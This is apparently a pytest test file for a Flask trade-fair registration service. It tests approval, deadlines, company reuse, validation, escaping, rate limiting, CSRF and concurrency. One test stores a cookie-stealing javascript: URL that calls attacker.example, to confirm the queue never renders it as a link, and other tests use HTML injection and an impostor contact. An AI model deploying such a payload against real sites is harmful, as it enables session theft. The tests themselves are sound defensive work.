"""Self-registration: open only in the registration phase, pending until approved,
reusing a company already in the directory without letting the newcomer change it."""

from __future__ import annotations

import threading
import time
from datetime import timedelta

import pytest
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from scheduler import registration
from scheduler.db import make_engine, make_session_factory, utcnow
from scheduler.errors import Conflict, DeadlinePassed, ValidationFailed
from scheduler.models import (
    Event,
    Organization,
    Participant,
    ParticipantStatus,
    Phase,
    PhaseDeadline,
)
from scheduler.participant_import import validate_entry
from tests.participant_fair import make_fair, read_in_english

FORM = {
    "company": "株式会社　新星ファクトリー", "company_kana": "シンセイファクトリー",
    "role": "supplier", "prefecture": "静岡県", "city": "沼津市", "industry": "金属加工",
    "employees": "３５", "website": "https://shinsei.example.jp",
    "contact_name": "新星 一郎", "email": "Ichiro@Shinsei.example.jp", "phone": "055-000-0000",
}


@pytest.fixture(autouse=True)
def _english(client: FlaskClient) -> None:
    read_in_english(client)


@pytest.fixture
def fair(db_session: Session):
    fair = make_fair(db_session)
    db_session.commit()
    return fair


def _data(**changes: object) -> registration.RegistrationData:
    values = {"company": "新星ファクトリー", "role": "supplier", "contact_name": "新星 一郎",
              "email": "ichiro@shinsei.example.jp", **changes}
    return registration.RegistrationData(**values)  # type: ignore[arg-type]


def test_self_registration_pending_then_approved_link_works(
    client: FlaskClient, db_session: Session, logged_in, fair
) -> None:
    response = client.post(f"/e/{fair.event.slug}/register", data=FORM)
    assert response.status_code == 302 and response.location.endswith("/register/thanks")
    assert "organizer will check" in client.get(response.location).get_data(as_text=True)
    participant = db_session.scalars(
        select(Participant).where(Participant.registered_via == "self")
    ).one()
    assert participant.status == ParticipantStatus.PENDING
    organization = participant.organization
    assert organization.name == "株式会社　新星ファクトリー" and organization.employees == 35
    assert registration.contact_person(participant).email == "ichiro@shinsei.example.jp"
    # The form has the company and a contact only: the profile is still to complete.
    assert participant.profile_confirmed_at is None

    queue = client.get(f"/events/{fair.event.id}/registrations").get_data(as_text=True)
    assert "新星ファクトリー" in queue
    # What the organizer judges it by, and a confirmation before declining.
    assert "35 employees" in queue or "従業員 35 名" in queue
    assert 'onsubmit="return confirm(' in queue and 'name="reason"' in queue
    # Pending: the directory is closed to it, and counterparts do not see it.
    assert client.get(f"/p/{participant.access_token}/directory").status_code == 404

    approved = client.post(
        f"/events/{fair.event.id}/registrations/{participant.id}/approve", follow_redirects=True
    )
    page = approved.get_data(as_text=True)
    assert participant.access_token in page  # the approval shows the secret link
    db_session.expire_all()
    assert participant.status == ParticipantStatus.APPROVED and participant.code == "S003"
    home = client.get(f"/p/{participant.access_token}/")
    assert home.status_code == 200
    text = home.get_data(as_text=True)
    # A new supplier without technologies is asked for them, and to confirm its profile.
    assert 'data-test="add-technologies"' in text and "is confirmed" not in text
    assert client.get(f"/p/{participant.access_token}/directory").status_code == 200


def test_declined_registration_link_does_not_work(
    client: FlaskClient, db_session: Session, logged_in, fair
) -> None:
    participant = registration.self_register(db_session, fair.event, _data())
    db_session.commit()
    client.post(f"/events/{fair.event.id}/registrations/{participant.id}/reject")
    db_session.expire_all()
    assert participant.status == ParticipantStatus.REJECTED
    assert client.get(f"/p/{participant.access_token}/").status_code == 404
    with pytest.raises(Conflict):
        registration.reject(db_session, participant, user_id=None)
    # Registering again is refused, in the words any registration gets (see below).
    with pytest.raises(Conflict, match="already has a registration for this event"):
        registration.self_register(db_session, fair.event, _data())

    # A declined or waiting registration is listed, marked, but not counted as taking part.
    waiting = registration.self_register(db_session, fair.event, _data(company="待機工業"))
    db_session.commit()
    client.post("/language", data={"lang": "en"})
    taking_part = db_session.scalar(
        select(func.count(Participant.id)).where(
            Participant.event_id == fair.event.id,
            Participant.status == ParticipantStatus.APPROVED,
        )
    )
    listing = client.get(f"/events/{fair.event.id}/participants").get_data(as_text=True)
    declined_row = listing.split(f'id="participant-{participant.id}"')[1].split("</tr>")[0]
    assert "Not approved" in declined_row and "Secret link" not in declined_row
    waiting_row = listing.split(f'id="participant-{waiting.id}"')[1].split("</tr>")[0]
    assert "Awaiting approval" in waiting_row
    overview = client.get(f"/events/{fair.event.id}").get_data(as_text=True)
    home = client.get("/").get_data(as_text=True)
    total = db_session.scalar(
        select(func.count(Participant.id)).where(Participant.event_id == fair.event.id)
    )
    assert total == taking_part + 2
    stat = '<span class="value">{}</span><span class="label">{}</span>'
    assert stat.format(taking_part, "Participants") in listing
    assert f"{taking_part} participants" in home and f"{total} participants" not in home
    suppliers = sum(1 for p in fair.event.participants if p.status == "approved"
                    and p.role == "supplier")
    assert stat.format(suppliers, "Suppliers") in overview
    access = client.get(f"/events/{fair.event.id}/participants/{participant.id}/access")
    assert "Status: Not approved." in access.get_data(as_text=True)


@pytest.mark.parametrize("phase", [Phase.PREFERENCES, Phase.SCHEDULING, Phase.CLOSED])
def test_registration_closed_outside_the_phase(
    client: FlaskClient, db_session: Session, fair, phase: str
) -> None:
    fair.event.phase = phase
    db_session.commit()
    page = client.get(f"/e/{fair.event.slug}/register").get_data(as_text=True)
    # The reason is the phase, whatever dates were set: no registration period that
    # still includes today is shown beside "closed".
    assert "Registration for this event has ended" in page
    assert "Registration period" not in page
    client.post(f"/e/{fair.event.slug}/register", data=FORM)
    assert db_session.scalar(select(Organization).where(Organization.city == "沼津市")) is None
    with pytest.raises(DeadlinePassed):
        registration.self_register(db_session, fair.event, _data())


def test_registration_closes_at_its_deadline(client: FlaskClient, db_session: Session, fair):
    closes = utcnow() - timedelta(minutes=1)
    db_session.add(PhaseDeadline(event=fair.event, phase=Phase.REGISTRATION, closes_at=closes))
    db_session.commit()
    assert not registration.registration_open(fair.event)
    assert registration.registration_open(fair.event, closes - timedelta(seconds=1))
    page = client.get(f"/e/{fair.event.slug}/register").get_data(as_text=True)
    assert "The registration deadline was" in page


def test_existing_company_is_reused_by_name_key_and_left_unchanged(
    db_session: Session, fair
) -> None:
    other_event = make_fair(db_session, slug="next-fair").event
    # The supplier of the first fair registers again, spelled differently.
    participant = registration.self_register(
        db_session, other_event,
        _data(company="ABC精工(株)", prefecture="北海道", email="new@example.jp"),
    )
    assert participant.organization is fair.supplier.organization
    assert participant.organization.prefecture == "静岡県"  # not changed by the newcomer
    assert participant.profile_confirmed_at is None  # to confirm after approval
    assert registration.contact_person(participant).email == "new@example.jp"
    # A company registers once per event.
    with pytest.raises(Conflict):
        registration.self_register(db_session, fair.event, _data(company="ＡＢＣ精工"))
    # Another legal form is another company: 有限会社 ABC精工 is not ABC精工株式会社.
    other = registration.self_register(
        db_session, other_event, _data(company="有限会社 ABC精工", email="yugen@example.jp"))
    assert other.organization is not fair.supplier.organization
    assert other.organization.name == "有限会社 ABC精工"


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"company": "   "}, "company"),
        ({"role": "visitor"}, "role"),
        ({"email": "not-an-address"}, "email"),
        ({"prefecture": "Tokyo"}, "prefecture"),
        ({"website": "ftp://x.example"}, "website"),
        ({"company": "社" * 201}, "company"),
    ],
)
def test_self_registration_rejects_bad_input(
    db_session: Session, fair, changes: dict, field: str
) -> None:
    with pytest.raises(ValidationFailed) as caught:
        registration.self_register(db_session, fair.event, _data(**changes))
    assert caught.value.field == field


def test_registration_form_keeps_values_and_escapes(client: FlaskClient, fair) -> None:
    data = {**FORM, "company": "<b>悪意</b>株式会社", "email": "broken"}
    response = client.post(f"/e/{fair.event.slug}/register", data=data)
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "&lt;b&gt;悪意&lt;/b&gt;株式会社" in page and "<b>悪意</b>" not in page
    assert 'value="broken"' in page


def test_registration_posts_are_rate_limited(client: FlaskClient, app, fair) -> None:
    app.config["REGISTRATION_LIMIT"] = "3/hour"
    for _ in range(3):
        assert client.post(f"/e/{fair.event.slug}/register", data={}).status_code == 200
    assert client.post(f"/e/{fair.event.slug}/register", data={}).status_code == 429


def test_registration_needs_csrf_token(csrf_app, db_session: Session) -> None:
    fair = make_fair(db_session)
    db_session.commit()
    response = csrf_app.test_client().post(f"/e/{fair.event.slug}/register", data=FORM)
    assert response.status_code == 400


def test_approval_e_mails_the_company_its_link_when_mail_is_set_up(
    app, client: FlaskClient, db_session: Session, logged_in, fair, smtp_server
) -> None:
    """The registration form promises the link by e-mail: approving sends it."""
    controller, inbox = smtp_server
    app.config.update(MAIL_SERVER="127.0.0.1", MAIL_PORT=controller.port, MAIL_FROM="o@f.jp")
    participant = registration.self_register(db_session, fair.event, _data())
    db_session.commit()
    client.post("/language", data={"lang": "en"})
    page = client.post(
        f"/events/{fair.event.id}/registrations/{participant.id}/approve", follow_redirects=True
    ).get_data(as_text=True)
    assert "1 participant was e-mailed." in page
    (message,) = inbox.messages
    assert message["To"] == "ichiro@shinsei.example.jp"
    assert f"/p/{participant.access_token}/" in message.get_payload(decode=True).decode()


def test_a_newcomer_under_a_known_companys_name_cannot_rewrite_its_profile(
    client: FlaskClient, db_session: Session, logged_in, fair
) -> None:
    """Anyone can type a known company's name: its shared profile (shown in every fair
    and in the directory) stays as it is until the organizer confirms the contact."""
    from scheduler import profiles

    other = make_fair(db_session, slug="next-fair").event
    db_session.commit()
    newcomer = registration.self_register(
        db_session, other, _data(company="ABC精工(株)", email="mallory@attacker.example")
    )
    db_session.commit()
    company = newcomer.organization
    assert company is fair.supplier.organization and not newcomer.company_edit_allowed
    queue = client.get(f"/events/{other.id}/registrations").get_data(as_text=True)
    assert 'name="company_edit"' in queue  # the organizer may confirm it right there
    assert client.post(f"/events/{other.id}/registrations/{newcomer.id}/approve").status_code == 302
    db_session.expire_all()
    assert not newcomer.company_edit_allowed  # approved, not confirmed as the company's

    page = client.get(f"/p/{newcomer.access_token}/profile").get_data(as_text=True)
    assert 'data-test="company-edit-pending"' in page
    with pytest.raises(ValidationFailed, match="has not yet confirmed"):
        profiles.update_profile(
            db_session, newcomer, profiles.ProfileData(name="ABC精工（閉鎖）", website="https://x.example")
        )
    db_session.rollback()
    profiles.update_profile(db_session, newcomer, profiles.ProfileData(department="購買部"))
    db_session.commit()
    assert company.name != "ABC精工（閉鎖）" and newcomer.department == "購買部"
    # The company's own contact from the earlier fair still edits it.
    assert fair.supplier.company_edit_allowed

    confirmed = client.post(f"/events/{other.id}/participants/{newcomer.id}/access/company-edit")
    assert confirmed.status_code == 302
    db_session.expire_all()
    assert newcomer.company_edit_allowed
    profiles.update_profile(db_session, newcomer, profiles.ProfileData(city="浜松市"))
    db_session.commit()
    assert company.city == "浜松市"


def test_approving_with_the_same_company_box_lets_the_contact_edit(
    client: FlaskClient, db_session: Session, logged_in, fair
) -> None:
    other = make_fair(db_session, slug="next-fair").event
    db_session.commit()
    newcomer = registration.self_register(db_session, other, _data(company="ABC精工(株)"))
    db_session.commit()
    client.post(
        f"/events/{other.id}/registrations/{newcomer.id}/approve", data={"company_edit": "y"}
    )
    db_session.expire_all()
    assert newcomer.company_edit_allowed and newcomer.status == ParticipantStatus.APPROVED


def test_a_website_that_is_not_a_web_address_is_never_a_link_in_the_queue(
    client: FlaskClient, db_session: Session, logged_in, fair
) -> None:
    """Imports keep what was typed (with a warning): a javascript: address stays text."""
    company = fair.supplier.organization
    company.website = "javascript:fetch('//attacker.example/'+document.cookie)"
    other = make_fair(db_session, slug="next-fair").event
    db_session.commit()
    registration.self_register(db_session, other, _data(company="ABC精工(株)"))
    db_session.commit()
    queue = client.get(f"/events/{other.id}/registrations").get_data(as_text=True)
    assert "attacker.example" in queue and 'href="javascript:' not in queue


def test_an_unconfirmed_contact_resubmitting_the_form_unchanged_saves_its_department(
    db_session: Session, fair
) -> None:
    """A browser sends CRLF line breaks and checkboxes in page order: the same profile."""
    from scheduler import profiles
    from scheduler.vocabulary import TECHNOLOGIES

    company = fair.supplier.organization
    first, second = list(TECHNOLOGIES)[:2]
    company.description, company.technologies = "一行目\n二行目", [second, first]
    other = make_fair(db_session, slug="next-fair").event
    db_session.commit()
    newcomer = registration.self_register(db_session, other, _data(company="ABC精工(株)"))
    db_session.commit()
    assert not newcomer.company_edit_allowed
    profiles.update_profile(
        db_session,
        newcomer,
        profiles.ProfileData(
            description="一行目\r\n二行目", technologies=[first, second],
            department="資材部",
        ),
    )
    db_session.commit()
    assert newcomer.department == "資材部" and company.description == "一行目\n二行目"


def test_a_second_registration_is_refused_without_telling_its_state(
    client: FlaskClient, db_session: Session, fair
) -> None:
    """A second registration is refused with the form kept. QA (privacy): anyone can type
    a company's name here, and the answer said whether it was registered, waiting for
    approval or declined; now every state gets the same words."""
    assert client.post(f"/e/{fair.event.slug}/register", data=FORM).status_code == 302
    again = client.post(f"/e/{fair.event.slug}/register", data=FORM)
    page = again.get_data(as_text=True)
    assert again.status_code == 200
    assert "already has a registration for this event" in page
    assert db_session.scalar(
        select(func.count(Participant.id)).where(Participant.registered_via == "self")
    ) == 1
    waiting = db_session.scalars(
        select(Participant).where(Participant.registered_via == "self")).one()
    messages = set()
    for status in ("pending", "approved", "rejected", "withdrawn"):
        waiting.status = status
        db_session.flush()
        with pytest.raises(Conflict) as refused:
            registration.self_register(db_session, fair.event, _data(company=FORM["company"]))
        messages.add(refused.value.msgid)
    assert len(messages) == 1


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("yamada＠abc-seiko.example.jp", "yamada@abc-seiko.example.jp"),  # a Japanese IME's ＠
        ("ｙａｍａｄａ＠ＡＢＣ－ｓｅｉｋｏ．ｅｘａｍｐｌｅ．ｊｐ", "yamada@abc-seiko.example.jp"),
        ("  yamada@abc-seiko.example.jp\n", "yamada@abc-seiko.example.jp"),  # pasted
    ],
)
def test_a_full_width_e_mail_address_is_the_address_itself(
    client: FlaskClient, db_session: Session, fair, typed: str, stored: str
) -> None:
    response = client.post(f"/e/{fair.event.slug}/register", data={**FORM, "email": typed})
    assert response.status_code == 302, response.get_data(as_text=True)
    participant = db_session.scalars(
        select(Participant).where(Participant.registered_via == "self")
    ).one()
    assert registration.contact_person(participant).email == stored
    # The service folds it too (other callers than the form).
    again = registration.self_register(db_session, make_fair(db_session, slug="next").event,
                                       _data(email=typed))
    assert registration.contact_person(again).email == stored


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("abc-seiko.example.jp", "https://abc-seiko.example.jp"),
        ("www.abc-seiko.co.jp/company/", "https://www.abc-seiko.co.jp/company/"),
        ("ｗｗｗ．ａｂｃ．ｃｏ．ｊｐ", "https://www.abc.co.jp"),
        ("http://abc.example.jp", "http://abc.example.jp"),  # a scheme given is kept
    ],
)
def test_a_website_without_its_scheme_gets_https(
    client: FlaskClient, db_session: Session, fair, typed: str, stored: str
) -> None:
    response = client.post(f"/e/{fair.event.slug}/register", data={**FORM, "website": typed})
    assert response.status_code == 302, response.get_data(as_text=True)
    organization = db_session.scalar(
        select(Organization).where(Organization.name == FORM["company"])
    )
    assert organization.website == stored


def test_an_expired_registration_form_leads_back_to_the_form_not_the_staff_login(
    app, client: FlaskClient, db_session: Session, fair
) -> None:
    """QA: cookies lost while a company filled the form on a phone, the error page's
    only link went to the start page, which is the staff login."""
    app.config["WTF_CSRF_ENABLED"] = True
    try:
        response = client.post(f"/e/{fair.event.slug}/register", data=FORM)
    finally:
        app.config["WTF_CSRF_ENABLED"] = False
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert f'href="/e/{fair.event.slug}/register"' in page and "Back to the form" in page
    assert 'href="/"' not in page.split("<main", 1)[1]


def test_the_same_registration_sent_several_times_at_once_registers_once(
    database_url: str, db_session: Session, fair, monkeypatch: pytest.MonkeyPatch
) -> None:
    """QA: six requests of one form at the same moment (a phone retrying on a poor
    network) made six companies waiting for approval. Each registration now takes the
    event's write lock first: one wins, the others find it and are refused."""
    original = registration._checked

    def slow(data: registration.RegistrationData) -> registration.RegistrationData:
        time.sleep(0.05)  # all arrive before any has written
        return original(data)

    monkeypatch.setattr(registration, "_checked", slow)
    engine = make_engine(database_url, pool_size=5)
    factory = make_session_factory(engine)
    barrier = threading.Barrier(4)
    outcomes: list[str] = []
    guard = threading.Lock()

    def run() -> None:
        session = factory()
        try:
            event = session.get(Event, fair.event.id)
            barrier.wait(timeout=10)
            registration.self_register(session, event, _data(company="レース工業株式会社"))
            session.commit()
            result = "registered"
        except Conflict:
            session.rollback()
            result = "refused"
        except BaseException as error:
            session.rollback()
            result = repr(error)
        finally:
            session.close()
        with guard:
            outcomes.append(result)

    threads = [threading.Thread(target=run) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    engine.dispose()
    assert sorted(outcomes) == ["refused", "refused", "refused", "registered"], outcomes
    db_session.expire_all()
    assert db_session.scalar(
        select(func.count(Organization.id)).where(Organization.name == "レース工業株式会社")
    ) == 1


def test_readings_are_stored_in_full_width_katakana_as_imports_store_them(
    db_session: Session, fair
) -> None:
    """QA: a registration kept 「ｶﾌﾞｼｷｶﾞｲｼｬ」 (half-width) and 「すしてっく」 (hiragana) in
    its カナ fields, while an import folded them: readings sorted and exported apart."""
    company = registration.self_register(db_session, fair.event, _data(
        company="寿司テック", company_kana="ｽｼﾃｯｸ", contact_kana="しんせい いちろう"))
    assert company.organization.name_kana == "スシテック"
    assert company.attendances[0].person.name_kana == "シンセイ イチロウ"
    entry, errors, _notes = validate_entry({"company": "寿司テック", "role": "supplier",
                                            "company_kana": "すしﾃｯｸ"})
    assert (entry.company_kana, errors) == ("スシテック", [])
